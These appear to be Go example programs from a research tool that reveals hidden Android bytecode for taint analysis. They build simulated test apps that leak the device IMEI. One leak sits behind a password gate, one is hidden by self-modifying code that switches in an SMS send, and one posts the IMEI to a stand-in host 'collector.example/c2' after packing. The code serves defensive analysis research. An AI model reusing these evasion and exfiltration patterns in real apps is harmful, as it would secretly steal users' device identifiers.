	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeVirtual("Landroid/app/Activity;", "getIntent",
			"()Landroid/content/Intent;", a.This())
		a.MoveResultObject(0)
		a.ConstString(1, "password")
		a.InvokeVirtual("Landroid/content/Intent;", "getStringExtra",
			"(Ljava/lang/String;)Ljava/lang/String;", 0, 1)
		a.MoveResultObject(2)
		a.IfZ(bytecode.OpIfEqz, 2, "locked") // extra missing: bail
		a.ConstString(3, "hunter2")
		a.InvokeVirtual("Ljava/lang/String;", "equals",
			"(Ljava/lang/Object;)Z", 2, 3)
		a.MoveResult(4)
		a.IfZ(bytecode.OpIfEqz, 4, "locked")
		// The hidden behavior: leak the device ID.
		a.GetIMEI(5, 6)
		a.LogLeak("gated", 5, 6)
		a.Label("locked")
		a.ReturnVoid()
	})
	return p.BuildAPK("com.gate", "1.0", "Lgate/Main;")
}

func run() error {
	pkg, err := buildGatedApp()
	if err != nil {
		return err
	}
	data, err := pkg.Dex()
	if err != nil {
		return err
	}
	f, err := dex.Read(data)
	if err != nil {
		return err
	}
	files := []*dex.File{f}

	// Baseline coverage: launch only.
	baseTracker, err := coverage.NewTracker(files)
	if err != nil {
		return err
	}
	baseline := forceexec.New(pkg, files)
	baseline.MaxIterations = 0
	if _, err := baseline.Run(baseTracker); err != nil {
		return err
	}
	fmt.Printf("baseline coverage: instructions %s, branches %s\n",
		baseTracker.Report().Instruction, baseTracker.Report().Branch)
	fmt.Printf("uncovered conditional branches: %d\n", len(baseTracker.UncoveredBranches()))

	// Force execution.
	forcedTracker, err := coverage.NewTracker(files)
	if err != nil {
		return err
	}
	eng := forceexec.New(pkg, files)
	stats, err := eng.Run(forcedTracker)
	if err != nil {
		return err
	}
	fmt.Printf("forced coverage:   instructions %s, branches %s\n",
		forcedTracker.Report().Instruction, forcedTracker.Report().Branch)
	fmt.Printf("iterations=%d forced runs=%d paths=%d exceptions cleared=%d\n",
		stats.Iterations, stats.ForcedRuns, stats.PathsComputed, stats.ExceptionsCleared)
	for _, p := range stats.Paths {
		fmt.Printf("  path file: %s target pc=%d taken=%v decisions=%v\n",
			p.Method, p.TargetPC, p.Taken, p.Decisions)
	}

	// Full pipeline with force execution, then analyze the revealed DEX.
	res, err := root.Reveal(pkg, root.Options{ForceExecution: true})
	if err != nil {
		return err
	}
	hd, err := taint.Analyze([]*dex.File{res.RevealedDex}, taint.HornDroid())
	if err != nil {
		return err
	}
	fmt.Printf("revealed-apk analysis: %d flow(s) found\n", hd.Count())
	return nil
}
