// Self-modifying code end to end: this example reproduces Code 1 of the
// paper. A native method rewrites advancedLeak's call site between loop
// iterations so the leaking call exists in memory only during the second
// iteration. Static analysis of the original misses it; DexLego's
// instruction-level collection reveals both states connected by the
// instrument-class branch (Code 4 of the paper), and every static tool
// then finds the flow.
package main

import (
	"fmt"
	"log"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/taint"
)

const mainDesc = "Lcom/test/Main;"

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	pkg, err := buildCode1()
	if err != nil {
		return err
	}
	natives := map[string]art.NativeFunc{
		mainDesc + "->bytecodeTamper(I)V": bytecodeTamper,
	}

	origData, err := pkg.Dex()
	if err != nil {
		return err
	}
	origDex, err := dex.Read(origData)
	if err != nil {
		return err
	}
	fmt.Println("== advancedLeak as shipped (Code 2 of the paper) ==")
	printMethod(origDex, "advancedLeak")

	res, err := root.Reveal(pkg, root.Options{Natives: natives})
	if err != nil {
		return err
	}
	fmt.Println("\n== advancedLeak as revealed (Code 4 of the paper) ==")
	printMethod(res.RevealedDex, "advancedLeak")
	fmt.Printf("\nself-modification layers merged: %d, instrument fields: %d\n",
		res.Stats.Divergences, res.Stats.InstrumentFields)

	for _, profile := range taint.Profiles() {
		before, err := taint.Analyze([]*dex.File{origDex}, profile)
		if err != nil {
			return err
		}
		after, err := taint.Analyze([]*dex.File{res.RevealedDex}, profile)
		if err != nil {
			return err
		}
		fmt.Printf("%-10s original: leak=%v, revealed: leak=%v\n",
			profile.Name, before.Leaky(), after.Leaky())
	}
	return nil
}

func buildCode1() (*apk.APK, error) {
	p := dexgen.New()
	cls := p.Class(mainDesc, "Landroid/app/Activity;")
	cls.StaticString("PHONE", "800-123-456")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Native("bytecodeTamper", "V", "I")
	cls.Virtual("getSensitiveData", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ReturnObj(0)
	})
	cls.Virtual("normal", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
		a.ReturnVoid() // do something normal
	})
	cls.Virtual("sink", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
		a.SendSMS("800-123-456", a.P(0), 0)
		a.ReturnVoid()
	})
	cls.Virtual("advancedLeak", "V", nil, func(a *dexgen.Asm) {
		a.InvokeVirtual(mainDesc, "getSensitiveData", "()Ljava/lang/String;", a.This())
		a.MoveResultObject(0)
		a.Const(1, 0)
		a.Label("loop")
		a.Const(2, 2)
		a.If(bytecode.OpIfGe, 1, 2, "end")
		a.InvokeVirtual(mainDesc, "normal", "(Ljava/lang/String;)V", a.This(), 0)
		a.InvokeVirtual(mainDesc, "bytecodeTamper", "(I)V", a.This(), 1)
		a.AddLit(1, 1, 1)
		a.Goto("loop")
		a.Label("end")
		a.ReturnVoid()
	})
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeVirtual(mainDesc, "advancedLeak", "()V", a.This())
		a.ReturnVoid()
	})
	return p.BuildAPK("com.test", "1.0", mainDesc)
}

func printMethod(f *dex.File, name string) {
	em := f.FindMethod(mainDesc, name, "")
	if em == nil || em.Code == nil {
		fmt.Println("  <missing>")
		return
	}
	lines, err := bytecode.Disassemble(em.Code.Insns, func(kind bytecode.IndexKind, idx uint32) string {
		switch kind {
		case bytecode.IndexString:
			return fmt.Sprintf("%q", f.String(idx))
		case bytecode.IndexType:
			return f.TypeName(idx)
		case bytecode.IndexField:
			return f.FieldAt(idx).Key()
		case bytecode.IndexMethod:
			return f.MethodAt(idx).Key()
		default:
			return "?"
		}
	})
	if err != nil {
		fmt.Println("  <undecodable>")
		return
	}
	for _, l := range lines {
		fmt.Println("  " + l)
	}
}

// bytecodeTamper is the JNI function of Code 1: on i=0 it swaps the call to
// normal() for sink(); on i=1 it swaps it back.
func bytecodeTamper(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
	i := args[0].Int
	return art.Value{}, env.TamperMethod(mainDesc, "advancedLeak",
		func(insns []uint16) []uint16 {
			var f *dex.File
			for _, cand := range env.Runtime().LoadedDexes() {
				if cand.FindClass(mainDesc) != nil {
					f = cand
					break
				}
			}
			if f == nil {
				return nil
			}
			findIdx := func(name string) (uint16, bool) {
				for mi := range f.Methods {
					ref := f.MethodAt(uint32(mi))
					if ref.Class == mainDesc && ref.Name == name {
						return uint16(mi), true
					}
				}
				return 0, false
			}
			for pc := 0; pc < len(insns); {
				in, w, err := bytecode.Decode(insns, pc)
				if err != nil {
					return nil
				}
				if in.Op == bytecode.OpInvokeVirtual {
					name := f.MethodAt(in.Index).Name
					if i == 0 && name == "normal" {
						if idx, ok := findIdx("sink"); ok {
							insns[pc+1] = idx
						}
						return nil
					}
					if i == 1 && name == "sink" {
						if idx, ok := findIdx("normal"); ok {
							insns[pc+1] = idx
						}
						return nil
					}
				}
				pc += w
				if pw, ok := bytecode.PayloadAt(insns, pc); ok {
					pc += pw
				}
			}
			return nil
		})
}
