// Packed application walkthrough: pack a leaking app with each of the five
// packers, show that static analysis of the packed APK is blind, compare
// the DexHunter dump baseline against DexLego, and verify that the
// revealed application still runs with identical behavior.
package main

import (
	"fmt"
	"log"

	root "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/art"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/packer"
	"dexlego/internal/taint"
	"dexlego/internal/unpacker"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func buildVictim() (*apk.APK, error) {
	p := dexgen.New()
	cls := p.Class("Lvictim/Main;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ConstString(2, "https://collector.example/c2")
		a.InvokeStatic("Landroid/net/http/HttpClient;", "post",
			"(Ljava/lang/String;Ljava/lang/String;)V", 2, 0)
		a.ReturnVoid()
	})
	return p.BuildAPK("com.victim", "1.0", "Lvictim/Main;")
}

func analyze(files []*dex.File) (bool, error) {
	res, err := taint.Analyze(files, taint.HornDroid())
	if err != nil {
		return false, err
	}
	return res.Leaky(), nil
}

func run() error {
	orig, err := buildVictim()
	if err != nil {
		return err
	}
	fmt.Printf("%-8s | %-14s | %-14s | %-14s | %s\n",
		"packer", "packed static", "DexHunter dump", "DexLego reveal", "revealed runs")
	for _, pk := range packer.All() {
		packed, err := pk.Pack(orig)
		if err != nil {
			return err
		}

		// Static analysis of the packed APK sees only the shell.
		packedData, err := packed.Dex()
		if err != nil {
			return err
		}
		packedDex, err := dex.Read(packedData)
		if err != nil {
			return err
		}
		packedLeak, err := analyze([]*dex.File{packedDex})
		if err != nil {
			return err
		}

		// DexHunter-style dump of the loaded DEX files.
		dumped, err := unpacker.DexHunter().Unpack(packed, pk.InstallNatives, nil)
		if err != nil {
			return err
		}
		dumpLeak, err := analyze(dumped)
		if err != nil {
			return err
		}

		// DexLego reveal.
		res, err := root.Reveal(packed, root.Options{InstallNatives: pk.InstallNatives})
		if err != nil {
			return err
		}
		revealLeak, err := analyze([]*dex.File{res.RevealedDex})
		if err != nil {
			return err
		}

		// Re-run the revealed APK and check the leak still happens.
		rt := art.NewRuntime(art.DefaultPhone())
		pk.InstallNatives(rt)
		if err := rt.LoadAPK(res.Revealed); err != nil {
			return err
		}
		if _, err := rt.LaunchActivity(); err != nil {
			return err
		}
		behaves := false
		for _, ev := range rt.Sinks() {
			if ev.Leaky() {
				behaves = true
			}
		}
		fmt.Printf("%-8s | leak=%-9v | leak=%-9v | leak=%-9v | %v\n",
			pk.Name(), packedLeak, dumpLeak, revealLeak, behaves)
	}
	for name, reason := range packer.UnavailableServices() {
		fmt.Printf("%-8s | %s\n", name, reason)
	}
	return nil
}
